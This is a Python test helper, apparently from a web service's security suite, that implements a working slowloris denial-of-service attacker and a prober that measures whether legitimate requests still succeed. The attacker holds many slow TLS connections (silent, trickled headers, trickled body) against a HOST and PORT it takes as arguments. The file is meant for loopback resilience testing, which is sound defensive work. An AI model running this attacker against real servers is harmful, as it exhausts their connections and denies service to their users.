# SPDX-License-Identifier: MIT
"""Slowloris attacker and legitimate prober of group 11 (front-end
exhaustion, tests/security/test_slowloris.py). Loopback only.

The attacker runs as its own process (so the prober in the test process
is not slowed by it) from one source address in 127.0.0.0/8 and keeps N
connections open to the TLS port, three kinds:
  silent  TCP connected, never a byte (no ClientHello);
  header  TLS handshake done, then a request line and one header line,
          one more header line every TRICKLE seconds, never the end;
  body    complete POST /api/threads headers with a bearer token and
          Content-Length 10 MB, then one body byte every TRICKLE seconds.
A connection the server closes (or answers) is opened again; all new
connections share one rate cap (RATE per second), so the attack is a
slowloris and not a handshake flood. Bounded: SECONDS in all, or until
SIGTERM (then it still prints its summary).

    python3 slowloris.py HOST PORT SRC SILENT HEADER BODY SECONDS RATE TOKEN

prints JSON lines on stdout: {"event": "ramped", ...} once every
connection was tried once, {"event": "held", ...} every second, and
{"event": "done", ...} with the per-kind counts at the end.

`probe()` is the legitimate client: a fresh TLS connection per request
from its own source address, every `period` seconds, each request
bounded by `timeout`; it returns the outcomes and latencies.
"""
import asyncio
import json
import resource
import signal
import socket
import ssl
import sys
import time

TRICKLE = 5.0
REFUSED_WAIT = 3.0
KINDS = ("silent", "header", "body")


def raise_nofile(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def client_ctx():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx


def pct(vals, p):
    if not vals:
        return None
    v = sorted(vals)
    return v[min(len(v) - 1, int(round(p / 100.0 * (len(v) - 1))))]


# ------------------------------------------------------------------ attacker
class Attack:
    def __init__(self, host, port, src, counts, seconds, rate, token):
        self.host, self.port, self.src = host, port, src
        self.counts = counts
        self.deadline = time.monotonic() + seconds
        self.rate = rate
        self.token = token
        self.ctx = client_ctx()
        self.held = {k: 0 for k in KINDS}
        self.peak = {k: 0 for k in KINDS}
        self.opened = {k: 0 for k in KINDS}
        self.failed = {k: 0 for k in KINDS}
        self.answers = {k: {} for k in KINDS}
        self.life = {k: [] for k in KINDS}	# lifetimes of server-cut ones
        self._next = time.monotonic()

    async def slot(self):
        """Global cap on new connections per second."""
        now = time.monotonic()
        self._next = max(self._next + 1.0 / self.rate, now)
        if self._next > now:
            await asyncio.sleep(self._next - now)

    def left(self):
        return self.deadline - time.monotonic()

    async def connect(self, kind):
        la = (self.src, 0)
        if kind == "silent":
            return await asyncio.wait_for(asyncio.open_connection(
                self.host, self.port, local_addr=la), min(10, max(self.left(), 0.1)))
        return await asyncio.wait_for(asyncio.open_connection(
            self.host, self.port, ssl=self.ctx, server_hostname="localhost",
            local_addr=la, ssl_handshake_timeout=10), min(12, max(self.left(), 0.1)))

    def opening(self, kind):
        if kind == "header":
            return b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
        if kind == "body":
            return (b"POST /api/threads HTTP/1.1\r\nHost: localhost\r\n"
                    b"Authorization: Bearer " + self.token.encode() + b"\r\n"
                    b"Content-Type: application/json\r\nContent-Length: 10000000\r\n\r\n")
        return b""

    async def holder(self, kind, first):
        while self.left() > 0:
            await self.slot()
            if self.left() <= 0:
                break
            try:
                r, w = await self.connect(kind)
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                r = w = None
            if not first.done():
                first.set_result(None)
            if w is None:
                self.failed[kind] += 1
                await asyncio.sleep(min(1.0, max(self.left(), 0)))
                continue
            t0 = time.monotonic()	# lifetime from the open connection on
            self.opened[kind] += 1
            self.held[kind] += 1
            self.peak[kind] = max(self.peak[kind], self.held[kind])
            cut = False
            code = ""
            try:
                w.write(self.opening(kind))
                i = 0
                while self.left() > 0:
                    try:
                        data = await asyncio.wait_for(r.read(4096),
                                                      min(TRICKLE, max(self.left(), 0.05)))
                    except asyncio.TimeoutError:
                        i += 1
                        if kind == "header":
                            w.write(b"X-Slow-%d: a\r\n" % i)
                        elif kind == "body":
                            w.write(b"a")
                        continue
                    cut = True
                    if data:
                        st = data.split(b" ", 2)[1:2]
                        code = st[0].decode("latin-1") if st else "?"
                    else:
                        code = "closed"
                    break
            except (OSError, ssl.SSLError):
                cut = True
                code = "reset"
            finally:
                self.held[kind] -= 1
                if cut:
                    self.life[kind].append(time.monotonic() - t0)
                    self.answers[kind][code] = self.answers[kind].get(code, 0) + 1
                w.transport.abort()
            if cut:
                # the server let go: come back (within the rate cap); a
                # refused one (429) waits longer, as a flood it is not
                await asyncio.sleep(REFUSED_WAIT if code == "429" else 0.2)

    async def reporter(self):
        while self.left() > 0:
            await asyncio.sleep(1.0)
            emit({"event": "held", "t": round(time.monotonic(), 3),
                  "held": dict(self.held), "total": sum(self.held.values())})

    async def run(self):
        tasks, firsts = [], []
        loop = asyncio.get_running_loop()
        for kind in KINDS:
            for _ in range(self.counts[kind]):
                f = loop.create_future()
                firsts.append(f)
                tasks.append(asyncio.ensure_future(self.holder(kind, f)))
        rep = asyncio.ensure_future(self.reporter())

        def stop():
            self.deadline = time.monotonic()
            for t in tasks:
                t.cancel()
        loop.add_signal_handler(signal.SIGTERM, stop)
        try:
            await asyncio.wait_for(asyncio.gather(*firsts), timeout=max(self.left(), 0.1))
        except asyncio.TimeoutError:
            pass
        emit({"event": "ramped", "held": dict(self.held), "total": sum(self.held.values())})
        await asyncio.gather(*tasks, return_exceptions=True)
        rep.cancel()
        emit({"event": "done", "peak": self.peak, "opened": self.opened,
              "failed": self.failed, "answers": self.answers,
              "cut": {k: len(v) for k, v in self.life.items()},
              "life_p50": {k: pct(v, 50) for k, v in self.life.items()},
              "life_p95": {k: pct(v, 95) for k, v in self.life.items()},
              "life_max": {k: (max(v) if v else None) for k, v in self.life.items()}})


def emit(obj):
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


def attack_main(argv):
    host, port, src = argv[0], int(argv[1]), argv[2]
    counts = dict(zip(KINDS, (int(argv[3]), int(argv[4]), int(argv[5]))))
    seconds, rate, token = float(argv[6]), float(argv[7]), argv[8]
    raise_nofile(sum(counts.values()) + 256)
    asyncio.run(Attack(host, port, src, counts, seconds, rate, token).run())
    return 0


# ------------------------------------------------------------------- prober
def one_request(host, port, src, path, token, timeout):
    """One request on a fresh TLS connection; returns (status, seconds).
    status 0: no answer within `timeout` (connect, handshake or reply)."""
    t0 = time.monotonic()
    end = t0 + timeout
    s = None
    try:
        s = socket.create_connection((host, port), timeout=timeout, source_address=(src, 0))
        s.settimeout(max(end - time.monotonic(), 0.01))
        t = client_ctx().wrap_socket(s, server_hostname="localhost")
        s = t
        req = "GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" % path
        if token:
            req += "Authorization: Bearer %s\r\n" % token
        t.sendall((req + "\r\n").encode())
        out = b""
        while True:
            t.settimeout(max(end - time.monotonic(), 0.01))
            c = t.recv(65536)
            if not c:
                break
            out += c
        status = int(out.split(b" ", 2)[1]) if out.startswith(b"HTTP/1.") else 0
    except (OSError, ssl.SSLError, ValueError, IndexError):
        status = 0
    finally:
        if s is not None:
            try:
                s.close()
            except OSError:
                pass
    return status, time.monotonic() - t0


def probe(host, port, src, token, seconds, period=0.2, timeout=5.0):
    """The legitimate client: alternately GET /healthz and an authenticated
    GET /api/threads, each on a new connection, every `period` s for
    `seconds`. Returns a dict with the counts and latencies."""
    res = {"requests": 0, "ok": 0, "statuses": {}, "lat_ok": [], "lat_all": []}
    start = time.monotonic()
    i = 0
    while True:
        due = start + i * period
        now = time.monotonic()
        if now - start >= seconds:
            break
        if due > now:
            time.sleep(due - now)
        elif now - due > period:
            i = int((now - start) / period)	# behind: skip missed slots
        path, tok = ("/healthz", None) if i % 2 == 0 else ("/api/threads", token)
        st, dt = one_request(host, port, src, path, tok, timeout)
        res["requests"] += 1
        res["statuses"][str(st)] = res["statuses"].get(str(st), 0) + 1
        res["lat_all"].append(dt)
        if st == 200:
            res["ok"] += 1
            res["lat_ok"].append(dt)
        i += 1
    res["rate"] = res["ok"] / res["requests"] if res["requests"] else 0.0
    res["p50"] = pct(res["lat_ok"], 50)	# latency of the answered ones
    res["p95"] = pct(res["lat_ok"], 95)
    return res


if __name__ == "__main__":
    sys.exit(attack_main(sys.argv[1:]))
